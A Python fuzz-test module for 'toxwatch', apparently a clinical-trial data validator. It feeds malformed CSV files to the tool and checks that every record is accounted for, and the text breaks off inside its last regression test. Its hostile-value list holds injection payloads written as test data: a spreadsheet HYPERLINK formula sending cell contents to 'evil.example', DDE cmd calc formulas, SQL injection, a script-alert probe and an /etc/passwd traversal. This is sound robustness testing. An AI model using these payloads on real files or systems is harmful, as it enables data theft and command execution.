"""Hostile source files, generated: no traceback, and every record written is accounted for.

Hypothesis writes each source file byte by byte from valid rows (the mini trial's, tests/data/mini;
hand-written ones for labs, vital signs and tumour assessments, which the mini trial leaves empty)
and spoils it:
hostile values (empty, whitespace, very long, CJK, right-to-left, emoji, control characters,
spreadsheet formulas, SQL, numbers out of range, NaN, impossible and partial dates), lines with a
field too many or too few, a quote left open, a stray quote inside a value, quoted values over
several lines, blank lines, duplicated rows, bytes that are not UTF-8, a byte-order mark, LF, CRLF,
CR or mixed line ends, and header variations (columns shuffled, quoted, extra, missing, renamed).

The generator keeps its own record of what it wrote: the physical line each record starts on (a
quoted value over several lines is one record, a malformed line is one record, a blank line is
none) and whether the file as a whole is unusable (a required column missing or renamed, no header
at all). The properties compare toxwatch with that record, never with toxwatch's own reader:

* A, per source (the bulk): ``read_source`` + ``validate_source`` + the free-text scan of one
  fuzzed source, checked against the mini trial's subjects, as ``validate_trial`` runs them;
* A, whole trial: all six sources fuzzed at once, through ``validate_trial``;
* B, the command line: ``toxwatch validate`` in-process on all six fuzzed sources.

Every record written is counted once, at the line it starts on: rows in = clean + counted with
queries + excluded, and the records counted and excluded are exactly the records written. Every
query says the problem and the fix; every excluded record has its query. Only a whole-file problem
may stop a run, as an ``InputError`` naming the file, the problem and the fix.

The faults this suite found (all fixed) stand as tests at the end, each with its smallest input.
A fault found later is pinned the same way, as a strict xfail test until it is fixed.

Cases: 6 x 1,634 (A per source) + 100 (A, whole trial) + 100 (B) = 10,004, derandomized so that
CI runs the same cases every time; the module's last test prints how many each property ran.
Measured on the 2-core development machine (`uv run pytest tests/fuzz --slow -q`): 10,000 cases
in 10 to 12 minutes, nearly all of it toxwatch's own validation (Pandera: 40-100 ms a case).
"""

from __future__ import annotations

import contextlib
import io
import json
import shutil
from collections import Counter
from dataclasses import dataclass
from datetime import date
from functools import cache
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ctcae.terms import CtcaeDictionary, load_curated_dictionary
from flows.cli import main
from tests.conftest import MINI_TRIAL, make_mini_trial
from trial.config import TrialConfig, load_trial_config
from trial.errors import InputError
from validators.privacy import FREE_TEXT_COLUMNS, read_names, read_patterns, scan_free_text
from validators.read import ROW, read_source
from validators.validate import SourceResult, validate_source, validate_trial

SOURCES = ("subjects", "exposure", "adverse_events", "labs", "vitals", "tumour_assessments")
RUN_DATE = date(2026, 1, 1)

# Cases per property: at least 10,000 in all (the reliability issue, item 7).
PER_SOURCE_EXAMPLES = 1_634
WHOLE_TRIAL_EXAMPLES = 100
COMMAND_LINE_EXAMPLES = 100
CASES_RUN: Counter[str] = Counter()  # cases each property ran in this session (the last test prints them)

FUZZ_SETTINGS = {
    "deadline": None,
    "derandomize": True,  # the same cases on every run, so that CI is reproducible
    "database": None,  # nothing to replay: derandomized cases are found again by running
    "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
}

# --- the valid rows the files start from ---------------------------------------------------

LAB_ROWS = """\
subject_id,collection_date,test_code,value,unit,lln,uln
S1,2025-01-05,ALT,12,U/L,7,40
S1,2025-02-02,PLT,180,10^9/L,150,400
S2,2025-01-14,HGB,128,g/L,115,150
S2,2025-02-11,NEUT,1.8,10^9/L,2.0,7.5
S3,2025-02-01,CREAT,75,umol/L,45,90
S4,2025-01-03,TSH,2.1,mIU/L,0.4,4.0
S5,2025-05-01,UPROT_DIP,1,+,,
S5,2025-05-01,K,4.2,mmol/L,3.5,5.1
"""
VITAL_ROWS = """\
subject_id,measure_date,sbp_mmhg,dbp_mmhg,heart_rate_bpm,weight_kg
S1,2025-01-10,128,82,76,61.5
S2,2025-01-15,141,91,88,54
S3,2025-02-01,118,,72,
S5,2025-05-01,150,95,80,70.2
"""
TUMOUR_ROWS = """\
subject_id,visit,assessment_date,overall_response,new_lesions,method
S1,Week 8,2025-03-07,SD,N,MRI
S1,Week 16,2025-05-02,PR,N,MRI
S2,Week 8,2025-03-12,PD,Y,CT
S4,Week 8,2025-02-26,SD,N,CT
S4,Week 16,2025-04-23,NE,,CT
S5,Week 8,2025-06-26,CR,N,PET-CT
"""


@dataclass(frozen=True)
class SeedRows:
    header: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]


def seed_rows(text: str) -> SeedRows:
    """A valid CSV text with no quotes and no commas in its values, as a header and rows."""
    header, *rows = [tuple(line.split(",")) for line in text.splitlines()]
    return SeedRows(header, tuple(rows))


def mini_text(source: str) -> str:
    """The mini trial's file; its one quoted value (AE13's "Other, specify" term) loses its comma,
    so that every seed row splits on commas (the term stays an unknown one: a query)."""
    return (MINI_TRIAL / f"{source}.csv").read_text().replace('"Skin and subcutaneous tissue disorders - Other, specify"', "Skin - Other specify")


SEEDS = {
    "subjects": seed_rows(mini_text("subjects")),
    "exposure": seed_rows(mini_text("exposure")),
    "adverse_events": seed_rows(mini_text("adverse_events")),
    "labs": seed_rows(LAB_ROWS),
    "vitals": seed_rows(VITAL_ROWS),
    "tumour_assessments": seed_rows(TUMOUR_ROWS),
}

# What kind of value each column holds (docs/sources.md), so hostile values hit their checks.
DATE_COLUMNS = {
    "enrolment_date", "end_of_treatment_date", "last_contact_date", "death_date", "start_date", "end_date",
    "onset_date", "resolution_date", "awareness_date", "expedited_report_date", "collection_date", "measure_date",
    "assessment_date",
}
NUMBER_COLUMNS = {
    "age", "dose_mg", "planned_dose_mg", "grade", "value", "lln", "uln", "sbp_mmhg", "dbp_mmhg", "heart_rate_bpm", "weight_kg",
}
# Columns a file may add: names outside the contract (some are names toxwatch uses inside), and
# the optional columns of adverse events and tumour assessments, which are then read.
EXTRA_COLUMNS = ("notes", "", "Patient Name", "头痛", "=cmd|' /C calc'!A0", "a,b", "_row", "raw_line", "reasons", "__toxwatch_bytes", "subject_id")
OPTIONAL_COLUMNS = {"adverse_events": ("expedited_report_date",), "tumour_assessments": ("visit", "new_lesions", "method")}

# --- hostile values ------------------------------------------------------------------------

HOSTILE_TEXT = (
    "", " ", "\t", "   \t  ", "\u00a0", "\u3000", "NULL", "null", "None", "NA", "N/A", "-", "?", "nan", "true",
    "头痛", "恶心、呕吐", "高血压（3级）", "صداع", "כאב ראש", "\u202eevil\u202c", "\u200f\u200e", "🤒", "👩‍⚕️🧪", "🏳️‍🌈",
    "e\u0301", "\u200b", "\ufeff", "\u2028", "\u2029", "\u0085", "\uffff", "\ue000", "Ｓ１", "ﬁ",
    "\x01", "\x07\x08", "\x0b\x0c", "\x1b[31mred\x1b[0m", "\x1c\x1d\x1e\x1f", "\x7f", "\t\ttab",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "=cmd|'/c calc'!A1",
    "'; DROP TABLE x;--", "Robert'); DROP TABLE subjects;--", "1 OR 1=1", "$load_id", "%s", "{}", "{{ 7*7 }}", "{% raw %}",
    "<script>alert(1)</script>", "../../etc/passwd", "C:\\Windows\\system32", "a,b", 'say "hi"', '"', '""', "'", "\\",
    "S1", "S9", "s1", " S1 ", "AE1", "apatinib", "APATINIB", "anti_pd1", "Fatigue", "fatigue ", "Hypertension",
)
HOSTILE_NUMBERS = (
    "-1", "0", "-0", "+5", "101", "17", "1e309", "-1e309", "1e5", "999999999999999999999999", "9223372036854775808", "0.5",
    "2.5", ".5", "5.", "1,5", "1_000", "0x1F", "NaN", "nan", "inf", "-inf", "Infinity", "١٢", "５", "Ⅻ", "12 mg", "≥3",
    "<0.1", "3-4", "", " ", "1e-400", "4.9999999999999999999", "6", "250.0", "125", "0.0",
)
HOSTILE_DATES = (
    "2099-01-01", "2025-02-30", "1900-01-01", "0001-01-01", "9999-12-31", "2025-02", "2025", "2025-13-01", "2025-00-10",
    "01/02/2025", "2025/01/02", "2025-1-5", "20250105", "0000-00-00", "2025-01-01T00:00:00", "2025-01-01 10:00",
    " 2025-01-01 ", "2025‐01‐01", "٢٠٢٥-٠١-٠١", "UN-UNK-2025", "2025-UN-UN", "2024-02-29", "2025-02-29", "2026-01-01",
    "2026-01-02", "2024-12-31", "", "yesterday", "-2025-01-01", "+2025-01-01", "2025-01-01Z",
)
# No NUL (an EDC export holds none: validators/privacy.py marks with it), no line break (those are
# written on purpose, quoted, by the line_break shape).
CONTROL_CHARACTERS = "".join(chr(code) for code in (*range(0x01, 0x0A), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F))
INVALID_UTF8 = (b"\xff", b"\xfe\xfe", b"\x80", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x82", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\xb4\xf3")
BOM = b"\xef\xbb\xbf"
BLANK_LINES = ("", " ", "\t", "  \t ")
STRAY_QUOTE_PREFIXES = ("5'10", "tired", "x", "2025-01-01", "S1")

any_text = st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00\n\r"), max_size=12)
very_long = st.builds(lambda piece, times: piece * times, st.sampled_from(("A", "é", "头", "🤒", '"', ",", " ", "a,b;")), st.integers(100, 10_000))
control_text = st.text(alphabet=CONTROL_CHARACTERS, min_size=1, max_size=6)
hostile_text = st.one_of(st.sampled_from(HOSTILE_TEXT), any_text, very_long, control_text)
hostile_dates = st.one_of(st.sampled_from(HOSTILE_DATES), st.sampled_from(HOSTILE_DATES), hostile_text)
hostile_numbers = st.one_of(st.sampled_from(HOSTILE_NUMBERS), st.sampled_from(HOSTILE_NUMBERS), hostile_text)


def hostile_value(column: str | None) -> st.SearchStrategy[str]:
    """A hostile value, most often of the column's own kind."""
    if column in DATE_COLUMNS:
        return hostile_dates
    if column in NUMBER_COLUMNS:
        return hostile_numbers
    return hostile_text


# --- hostile files -------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileFile:
    source: str
    data: bytes
    record_lines: tuple[int, ...]  # the physical line (from 1) each record written starts on
    whole_file_problem: str | None = None  # why the file as a whole is unusable (an InputError is expected)


@dataclass(frozen=True)
class _Entry:
    """A header, a record or a blank line as written, with its line end."""

    data: bytes
    lines: int  # physical lines it takes
    is_record: bool


ROW_SHAPES = (
    *(["as_is"] * 8),
    "field_too_many", "fields_too_many", "field_too_few", "fields_too_few", "all_empty",
    "open_quote", "stray_quote", "line_break", "line_break", "invalid_bytes", "invalid_bytes", "line_break_invalid_bytes",
)
# Strategies drawn from again and again, made once (making one per draw doubles the time of a case).
line_end_styles = st.sampled_from(("\n", "\n", "\r\n", "\r\n", "\r", "mixed"))
mixed_line_ends = st.sampled_from(("\n", "\r\n"))
blank_lines = st.sampled_from(BLANK_LINES)
blank_lines_after_a_record = st.sampled_from((0, 0, 0, 0, 1, 2))
values_replaced = st.integers(0, 3)
row_shapes = st.sampled_from(ROW_SHAPES)
column_problems = st.sampled_from(("none",) * 18 + ("missing_column", "renamed_column"))
one_in_five = st.integers(0, 4)
line_break_pieces = st.lists(st.one_of(st.sampled_from(("", " ", "second line", "头痛")), hostile_text), min_size=2, max_size=4)
invalid_utf8 = st.sampled_from(INVALID_UTF8)
stray_quotes = st.tuples(st.sampled_from(STRAY_QUOTE_PREFIXES), st.sampled_from(("", "ness", " 5", "'")))


@cache
def positions(count: int) -> st.SearchStrategy[int]:
    return st.integers(0, count - 1)


@cache
def seed_row_lists(source: str) -> st.SearchStrategy[list[tuple[str, ...]]]:
    return st.lists(st.sampled_from(SEEDS[source].rows), max_size=12)


@cache
def extra_column_lists(source: str) -> st.SearchStrategy[list[str]]:
    return st.lists(st.sampled_from(EXTRA_COLUMNS + OPTIONAL_COLUMNS.get(source, ())), max_size=2)


def _quoted(value: str) -> str:
    """A value as a CSV field (RFC 4180): quoted when it holds a comma, a quote or a line break."""
    if any(character in value for character in ',"\n\r'):
        return '"' + value.replace('"', '""') + '"'
    return value


@st.composite
def hostile_files(draw: st.DrawFn, source: str) -> HostileFile:
    """A hostile file of ``source``, with the lines its records start on worked out as it is written."""
    seed = SEEDS[source]
    style = draw(line_end_styles)

    def line_end() -> str:
        return draw(mixed_line_ends) if style == "mixed" else style

    def blank_line() -> _Entry:
        return _Entry((draw(blank_lines) + line_end()).encode(), 1, False)

    # The columns: shuffled, some extra, now and then one missing or renamed (a whole-file problem).
    columns: list[str | None] = list(seed.header)
    rows = [list(row) for row in draw(seed_row_lists(source))]
    if draw(st.booleans()):
        order = draw(st.permutations(range(len(columns))))
        columns = [columns[index] for index in order]
        rows = [[row[index] for index in order] for row in rows]
    header = [str(column) for column in columns]
    for name in draw(extra_column_lists(source)):
        at = draw(positions(len(header) + 1))
        header.insert(at, name)
        columns.insert(at, name if name in OPTIONAL_COLUMNS.get(source, ()) else None)
        for row in rows:
            row.insert(at, draw(hostile_value(columns[at])))
    whole_file_problem = None
    problem = draw(column_problems)
    if problem != "none":
        at = draw(st.sampled_from([index for index, column in enumerate(columns) if column in seed.header]))
        name = header[at]
        if problem == "missing_column":
            for fields in (header, columns, *rows):
                del fields[at]
        else:
            header[at] = name.upper()
        # An extra column of the same name would stand in for it; an optional column may be left out.
        if name not in header and name not in OPTIONAL_COLUMNS.get(source, ()):
            whole_file_problem = f"required column {name} {'missing' if problem == 'missing_column' else 'renamed ' + name.upper()}"
    width = len(header)

    head = [blank_line() for _ in range(draw(st.sampled_from((0, 0, 0, 0, 0, 1))))]
    header_fields = [f'"{name}"' if draw(one_in_five) == 0 and '"' not in name else _quoted(name) for name in header]
    head.append(_Entry((",".join(header_fields) + line_end()).encode(), 1, False))
    body: list[_Entry] = []
    for row in rows:
        for _ in range(draw(values_replaced)):
            at = draw(positions(width))
            row[at] = draw(hostile_value(columns[at]))
        body.append(_record(draw, row, width, draw(row_shapes), line_end))
        body.extend(blank_line() for _ in range(draw(blank_lines_after_a_record)))
    if body and draw(st.integers(0, 9)) == 0:
        body = body * draw(st.integers(2, 30))  # now and then a file of a few hundred records

    entries = head + body
    data = b"".join(entry.data for entry in entries)
    if draw(st.booleans()):
        data = data.removesuffix(b"\n").removesuffix(b"\r")  # no line end after the last line
    if draw(one_in_five) == 0:
        data = BOM + data
    if draw(st.integers(0, 49)) == 0:
        data = b"".join(blank_line().data for _ in range(draw(st.integers(0, 3))))
        return HostileFile(source, data, (), "no header row (the file is empty or blank)")

    record_lines = []
    line_number = 1
    for entry in entries:
        if entry.is_record:
            record_lines.append(line_number)
        line_number += entry.lines
    return HostileFile(source, data, tuple(record_lines), whole_file_problem)


def _record(draw: st.DrawFn, row: list[str], width: int, shape: str, line_end) -> _Entry:
    """One record written in ``shape``: as it is, ragged, with a quote open or stray, over several
    lines, or with bytes that are not UTF-8. Whatever its shape, it is one record."""
    fields = [_quoted(value) for value in row]
    breaks = 0
    if shape in ("field_too_many", "fields_too_many"):
        for _ in range(1 if shape == "field_too_many" else draw(st.integers(2, 6))):
            fields.insert(draw(positions(len(fields) + 1)), _quoted(draw(hostile_text)))
    elif shape in ("field_too_few", "fields_too_few"):
        for _ in range(1 if shape == "field_too_few" else draw(st.integers(2, width - 2))):
            del fields[draw(positions(len(fields)))]  # two fields are left at least: a comma, no blank line
    elif shape == "all_empty":
        fields = [""] * width
    elif shape == "open_quote":
        # One quote, opening the first value and never closed. The values keep their commas
        # unquoted, so that joined with a later line the quote would hold a record's worth of
        # commas, which toxwatch reads as a quote left open (validators/read.py, _swallows_records),
        # also when a later such line, its first value empty, opens with '",'
        # (test_a_quote_left_open_does_not_swallow_the_next_line).
        plain = [value.replace('"', "'").replace(",", ";") for value in row]
        fields = ['"' + plain[0]] + plain[1:]
    elif shape == "stray_quote":
        before, after = draw(stray_quotes)
        fields[draw(positions(width))] = before + '"' + after
    elif shape in ("line_break", "line_break_invalid_bytes"):
        # A quoted value over several lines, with one comma at most: a value over several lines
        # holding a record's worth of commas is read as a quote left open, by design.
        pieces = draw(line_break_pieces)
        value = line_end().join(piece.replace(",", ";") for piece in pieces)
        if draw(st.booleans()):
            value = value.replace(";", ",", 1)
        at = draw(positions(width))
        fields[at] = _quoted(value)
        breaks = len(pieces) - 1
        if shape == "line_break_invalid_bytes":
            return _Entry(_with_invalid_bytes(fields, at, draw(invalid_utf8)) + line_end().encode(), 1 + breaks, True)
    elif shape == "invalid_bytes":
        return _Entry(_with_invalid_bytes(fields, draw(positions(width)), draw(invalid_utf8)) + line_end().encode(), 1, True)
    return _Entry((",".join(fields) + line_end()).encode(), 1 + breaks, True)


def _with_invalid_bytes(fields: list[str], at: int, bad: bytes) -> bytes:
    """The record's fields with ``bad`` at the start of value ``at`` (inside its quotes): never
    between two quotes, so that the record's quoting is the same in any reading."""
    return b",".join(
        (field[:1].encode() + bad + field[1:].encode() if field.startswith('"') else bad + field.encode()) if index == at else field.encode()
        for index, field in enumerate(fields)
    )


# --- what toxwatch must do with them ---------------------------------------------------------


def assert_queries_say_problem_and_fix(queries: pl.DataFrame) -> None:
    for column in ("problem", "fix"):
        empty = queries.filter(pl.col(column).is_null() | (pl.col(column).str.strip_chars() == ""))
        assert empty.is_empty(), f"queries without a {column}: {empty.to_dicts()}"


def assert_accounted_for(result: SourceResult, hostile: HostileFile) -> None:
    """Every record written is counted or excluded, once, at the line it starts on; every query
    says the problem and the fix; every excluded record has its query."""
    counts = result.accounting
    assert counts["rows_in"] == counts["clean"] + counts["counted_with_queries"] + counts["excluded"], counts
    counted_lines = result.records[ROW].to_list()
    excluded_lines = result.excluded[ROW].to_list()
    assert len(counted_lines) + len(excluded_lines) == counts["rows_in"], counts
    assert_queries_say_problem_and_fix(result.queries)
    excluding_queries = set(result.queries.filter(pl.col("effect") == "excluded")["row"].to_list())
    assert set(excluded_lines) <= excluding_queries, "an excluded record without its query"
    assert counts["rows_in"] == len(hostile.record_lines), (counts, hostile.record_lines)
    assert sorted(counted_lines + excluded_lines) == list(hostile.record_lines), (counted_lines, excluded_lines)
    assert set(result.queries["row"].to_list()) <= set(hostile.record_lines), "a query that points at no record"


# A file read line by line needs a control character it does not hold, to split its lines on
# (validators/read.py, _physical_lines): one holding them all may stop the run, by design.
SEPARATOR_CANDIDATES = frozenset((*range(0x01, 0x09), *range(0x0E, 0x20)))


def may_stop_the_run(hostile: HostileFile) -> str | None:
    """Why an InputError on this file is right: a whole-file problem written on purpose, or a
    documented limit."""
    if hostile.whole_file_problem:
        return hostile.whole_file_problem
    if SEPARATOR_CANDIDATES <= set(hostile.data):
        return "it holds every control character"
    return None


def assert_stopped_for_an_unusable_file(error: InputError, written: list[HostileFile], paths: dict[str, Path]) -> None:
    """An InputError names, with its problem and fix, a file that may stop the run, and no file
    read before it must have stopped it (``written`` in the order the sources are read)."""
    assert error.problem.strip() and error.fix.strip(), error.message
    stopped_at = next((hostile for hostile in written if str(paths[hostile.source]) == error.file), None)
    assert stopped_at is not None and may_stop_the_run(stopped_at), f"InputError on a file with no whole-file problem: {error.message}"
    read_before = written[: written.index(stopped_at)]
    assert not [hostile.whole_file_problem for hostile in read_before if hostile.whole_file_problem], error.message


# --- the properties ------------------------------------------------------------------------


@dataclass(frozen=True)
class FuzzTrial:
    """The mini trial, copied once per module: each case overwrites the files it fuzzes."""

    config_path: Path
    config: TrialConfig
    dictionary: CtcaeDictionary
    known_subjects: pl.DataFrame  # the clean subjects, as validate_trial hands them to the other sources
    identifier_patterns: pl.DataFrame
    names: tuple[str, ...]

    def _repr_pretty_(self, printer, cycle: bool) -> None:  # a failing case prints its fixtures: the folder says enough
        printer.text(f"FuzzTrial({self.config_path.parent})")

    def write(self, hostile: HostileFile) -> Path:
        path = self.config.source_path(hostile.source)
        path.write_bytes(hostile.data)
        return path

    def validate(self, hostile: HostileFile) -> tuple[Path, SourceResult]:
        """Write the file and validate its source as validate_trial does (free-text scan aside)."""
        path = self.write(hostile)
        raw = read_source(self.config, hostile.source)
        subjects = None if hostile.source == "subjects" else self.known_subjects
        return path, validate_source(raw, agents=self.config.model.agents, dictionary=self.dictionary, subjects=subjects, run_date=RUN_DATE)


@pytest.fixture(scope="module")
def fuzz_trial(tmp_path_factory) -> FuzzTrial:
    config_path = make_mini_trial(tmp_path_factory.mktemp("fuzz") / "trial")
    (config_path.parent / "labs.csv").write_text(LAB_ROWS)
    (config_path.parent / "vitals.csv").write_text(VITAL_ROWS)
    (config_path.parent / "tumour_assessments.csv").write_text(TUMOUR_ROWS)
    config = load_trial_config(config_path)
    dictionary = load_curated_dictionary(config.model.trial.ctcae_version)
    subjects = validate_source(read_source(config, "subjects"), agents=config.model.agents, dictionary=dictionary, run_date=RUN_DATE)
    # validate_trial's own hand-over (validators/validate.py): the subjects counted, with enrolment.
    known_subjects = subjects.records.select(
        "subject_id", pl.col("enrolment_date").alias("_enrolment_date"), pl.lit(True).alias("_subject_known")
    )
    return FuzzTrial(
        config_path=config_path,
        config=config,
        dictionary=dictionary,
        known_subjects=known_subjects,
        identifier_patterns=read_patterns(config.free_text_patterns_path),
        names=tuple(read_names(config.names_path)),
    )


@pytest.mark.slow
@pytest.mark.parametrize("source", SOURCES)
@settings(max_examples=PER_SOURCE_EXAMPLES, **FUZZ_SETTINGS)
@given(data=st.data())
def test_every_record_of_a_hostile_file_is_accounted_for(fuzz_trial: FuzzTrial, source: str, data: st.DataObject) -> None:
    """Property A, one source at a time, the other sources being the mini trial's."""
    hostile = data.draw(hostile_files(source), label="hostile file")
    CASES_RUN[f"A {source}"] += 1
    try:
        path, result = fuzz_trial.validate(hostile)
    except InputError as error:
        assert_stopped_for_an_unusable_file(error, [hostile], {source: fuzz_trial.config.source_path(source)})
        return
    assert hostile.whole_file_problem is None, f"read, yet {hostile.whole_file_problem}"
    assert_accounted_for(result, hostile)
    if source != "subjects":
        # A record of a subject who is not among the subjects cannot be placed: never counted.
        known = fuzz_trial.known_subjects["subject_id"].implode()
        strangers = result.records.filter(pl.col("subject_id").is_not_null() & ~pl.col("subject_id").is_in(known))
        assert strangers.is_empty(), strangers.select(ROW, "subject_id").rows()
    if source in FREE_TEXT_COLUMNS:
        findings = scan_free_text(result.records, source=source, file=path.name, patterns=fuzz_trial.identifier_patterns, names=fuzz_trial.names)
        assert_queries_say_problem_and_fix(findings)
        assert set(findings["row"].to_list()) <= set(result.records[ROW].to_list())


trials_of_hostile_files = st.tuples(*(hostile_files(source) for source in SOURCES))


@pytest.mark.slow
@settings(max_examples=WHOLE_TRIAL_EXAMPLES, **FUZZ_SETTINGS)
@given(hostile_trial=trials_of_hostile_files)
def test_every_record_of_a_hostile_trial_is_accounted_for(fuzz_trial: FuzzTrial, hostile_trial: tuple[HostileFile, ...]) -> None:
    """Property A, whole trial: all six sources fuzzed at once, through validate_trial."""
    CASES_RUN["A whole trial"] += 1
    paths = {hostile.source: fuzz_trial.write(hostile) for hostile in hostile_trial}
    try:
        result = validate_trial(fuzz_trial.config, fuzz_trial.dictionary, run_date=RUN_DATE)
    except InputError as error:
        assert_stopped_for_an_unusable_file(error, list(hostile_trial), paths)
        return
    assert not [hostile.whole_file_problem for hostile in hostile_trial if hostile.whole_file_problem]
    for hostile in hostile_trial:
        assert_accounted_for(result.sources[hostile.source], hostile)


@pytest.mark.slow
@settings(max_examples=COMMAND_LINE_EXAMPLES, **FUZZ_SETTINGS)
@given(hostile_trial=trials_of_hostile_files)
def test_toxwatch_validate_on_hostile_files_exits_as_documented(fuzz_trial: FuzzTrial, hostile_trial: tuple[HostileFile, ...]) -> None:
    """Property B, the command line in-process: exit 0 or 2 with a published folder whose
    manifest accounts for every record written, or exit 1 with one line naming the unusable file
    and its fix (README "Commands"; tests/flows/test_errors.py)."""
    CASES_RUN["B command line"] += 1
    paths = {hostile.source: fuzz_trial.write(hostile) for hostile in hostile_trial}
    out = fuzz_trial.config_path.parent / "out-fuzz"
    shutil.rmtree(out, ignore_errors=True)
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        exit_code = main(["validate", str(fuzz_trial.config_path), "--out", str(out)])
    errors = stderr.getvalue()
    assert "Traceback" not in errors
    if exit_code == 1:
        # Notes may come first (e.g. "read as GB18030"); the fault itself is one line.
        lines = [line for line in errors.strip().splitlines() if not line.startswith("toxwatch: note: ")]
        assert len(lines) == 1, errors
        assert lines[0].startswith("toxwatch: error: ") and "Fix: " in lines[0], lines[0]
        assert "unexpected" not in lines[0], lines[0]  # a fault in toxwatch, caught by the command line
        [stopped_at] = [hostile for hostile in hostile_trial if lines[0].startswith(f"toxwatch: error: {paths[hostile.source]}: ")]
        assert may_stop_the_run(stopped_at), lines[0]
        read_before = hostile_trial[: hostile_trial.index(stopped_at)]
        assert not [hostile.whole_file_problem for hostile in read_before if hostile.whole_file_problem], lines[0]
        return
    assert exit_code in (0, 2), (exit_code, errors)
    unreadable = [hostile for hostile in hostile_trial if hostile.whole_file_problem]
    assert not unreadable, f"exit {exit_code}, yet {unreadable[0].source}: {unreadable[0].whole_file_problem}"
    assert "toxwatch: error" not in errors, errors
    [published] = (out / fuzz_trial.config.id).glob("*-validation")
    manifest = json.loads((published / "manifest.json").read_text())
    for hostile in hostile_trial:
        counts = manifest["row_accounting"][hostile.source]
        assert counts["rows_in"] == counts["clean"] + counts["counted_with_queries"] + counts["excluded"], (hostile.source, counts)
        assert counts["rows_in"] == len(hostile.record_lines), (hostile.source, counts, hostile.record_lines)
    assert exit_code == (2 if manifest["queries"]["validation"] else 0), (exit_code, manifest["queries"])


# --- faults this suite found (fixed), with their smallest inputs ----------------------------------------------

VITALS_HEADER = b"subject_id,measure_date,sbp_mmhg,dbp_mmhg,heart_rate_bpm,weight_kg\n"


@pytest.mark.slow
@pytest.mark.parametrize(
    "data",
    [
        # A byte-order mark: read as GB18030 it is "锘" and the first column "锘縮ubject_id".
        BOM + VITALS_HEADER + b"S1,2025-01-10,128,82,76," + "é".encode() * 20 + b"\nS2,2025-01-15,\xff,91,88,54\n",
        # A Chinese column name (血压, outside the contract, not read) whose UTF-8 is not GB18030.
        VITALS_HEADER.replace(b"\n", ",血压\n".encode()) + b"S1,2025-01-10,128,82,76,61.5," + "é".encode() * 20 + b"\nS2,2025-01-15,\xff,91,88,54,x\n",
    ],
    ids=["byte-order mark", "chinese column name"],
)
def test_a_utf8_file_with_one_bad_byte_keeps_its_header(fuzz_trial: FuzzTrial, data: bytes) -> None:
    """A UTF-8 file whose only fault is one byte that is not UTF-8 (line 3). Its Latin text, "é" in
    UTF-8 (C3 A9), reads as the everyday Chinese character 茅 in GB18030, so the file is taken for
    GB18030 (validators/read.py, _read_csv) and its header is read in GB18030 too: the run stops
    on the whole file ("required column missing (missing: subject_id)" / "the header row has bytes
    that are not valid GB18030"). One bad byte must cost its line only: 2 rows = line 2 counted +
    line 3 excluded. (Without a byte-order mark the values are silently read as 茅茅茅, with a warning.)"""
    hostile = HostileFile("vitals", data, record_lines=(2, 3))
    _, result = fuzz_trial.validate(hostile)
    assert_accounted_for(result, hostile)


@pytest.mark.slow
def test_a_quote_left_open_does_not_swallow_the_next_line(fuzz_trial: FuzzTrial) -> None:
    """Line 2 opens a quote it never closes; line 3 opens with a quote and a comma (its first value
    is empty). Read as CSV the quote runs to line 3's quote: one record, whose subject_id holds all
    of line 2, and line 3's record is gone. toxwatch means to read such a value (a record's worth
    of commas over several lines) as a quote left open (validators/read.py, _swallows_records),
    but it strips the value before looking for the line break, and this one ends with it. Two
    records written: 2 rows (both excluded), not 1."""
    data = VITALS_HEADER + b'"S1,2025-01-10,128,82,76,61.5\n",2025-01-15,141,91,88,54\n'
    hostile = HostileFile("vitals", data, record_lines=(2, 3))
    _, result = fuzz_trial.validate(hostile)
    assert_accounted_for(result, hostile)


@pytest.mark.slow
def test_a_record_over_two_lines_with_a_bad_byte_is_one_row(fuzz_trial: FuzzTrial) -> None:
    """One record whose quoted weight runs over two lines, with a byte that is not UTF-8 in it.
    toxwatch stops a quoted value at a line with such bytes (validators/read.py, _record_at), so
    each line is excluded on its own: 2 rows in for 1 record written. (A byte not valid in the
    encoding is never a quote, comma or line end, so the record's lines can still be found.)
    The same happens to a record of valid UTF-8 in a file taken for GB18030."""
    data = VITALS_HEADER + b'S1,2025-01-10,128,82,76,"61.5\xff\nkg"\n'
    hostile = HostileFile("vitals", data, record_lines=(2,))
    _, result = fuzz_trial.validate(hostile)
    assert_accounted_for(result, hostile)


MINI_AE_HEADER = (
    b"ae_id,subject_id,verbatim_term,ctcae_term,other_specify,grade,onset_date,resolution_date,serious,serious_criteria,"
    b"outcome,attribution_apatinib,attribution_anti_pd1,action_apatinib,action_anti_pd1,awareness_date\n"
)


@pytest.mark.slow
def test_a_date_before_the_year_1_is_a_query_not_a_traceback(fuzz_trial: FuzzTrial) -> None:
    """Six adverse-event lines of subject S9 (not among the subjects), every value but the
    subject empty, the last resolved "-2025-01-01". Polars reads "-2025-01-01" as a date of the
    year -2025, which Python's date cannot hold; when Pandera gathers the failing rows of a record
    check it turns them into Python values, and "ValueError: year -2025 is out of range" escapes
    validate_trial (`toxwatch validate` prints "unexpected ValueError ... a fault in toxwatch",
    exit 1). With five lines or fewer it failed silently instead (the next test). The date is no
    date (a parse query): 6 rows in = 6 excluded (S9 is no subject)."""
    data = MINI_AE_HEADER + b",S9,,,,,,,,,,,,,,\n" * 5 + b",S9,,,,,,-2025-01-01,,,,,,,,\n"
    hostile = HostileFile("adverse_events", data, record_lines=(2, 3, 4, 5, 6, 7))
    _, result = fuzz_trial.validate(hostile)
    assert_accounted_for(result, hostile)


@pytest.mark.slow
def test_a_date_before_the_year_1_leaves_the_record_checks_on(fuzz_trial: FuzzTrial) -> None:
    """Two adverse events of subject S9, who is not among the subjects; AE1 resolved
    "-2025-01-01". Neither can be placed (subject_known: excluded), yet both were counted clean:
    the record checks (subject_known, onset_not_before_enrolment, resolution_not_before_onset, ...)
    failed on the row of the year -2025, Pandera reported those failures without row numbers, and
